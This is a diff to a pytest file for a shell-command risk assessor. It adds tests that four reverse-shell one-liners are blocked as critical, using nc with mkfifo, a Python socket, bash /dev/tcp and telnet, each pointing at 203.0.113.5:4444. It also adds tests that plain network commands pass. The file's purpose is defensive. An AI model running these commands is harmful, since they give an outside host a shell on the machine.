@@ -110,3 +110,25 @@ def test_what_a_stranger_called_catastrophic_is_blocked(command: str) -> None:
 def test_their_milder_forms_ask_instead(command: str) -> None:
     verdict = assess(command)
     assert not verdict.blocked and not verdict.read_only, (command, verdict.reasons)
+
+
+# From corpus E's misses (causes): reverse shells in their usual spellings
+@pytest.mark.parametrize("command", [
+    "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f",
+    "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.5\","
+    "4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'",
+    "exec 5<>/dev/tcp/203.0.113.5/4444; cat <&5 | while read l; do $l 2>&5 >&5; done",
+    "telnet 203.0.113.5 4444 | /bin/bash | telnet 203.0.113.5 4445",
+])
+def test_a_reverse_shell_is_blocked(command: str) -> None:
+    verdict = assess(command)
+    assert verdict.blocked and verdict.risk == RiskLevel.CRITICAL, (command, verdict.reasons)
+
+
+@pytest.mark.parametrize("command", [
+    "echo hi | nc -q1 example.org 80", "sh -c 'uptime' | nc -q1 logs.example.org 9000",
+    "exec 3<>/dev/tcp/example.org/80; printf 'HEAD / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
+    "python3 -c 'import socket; print(socket.gethostname())'",
+])
+def test_talking_to_the_network_without_handing_it_a_shell_is_not_blocked(command: str) -> None:
+    assert not assess(command).blocked, command
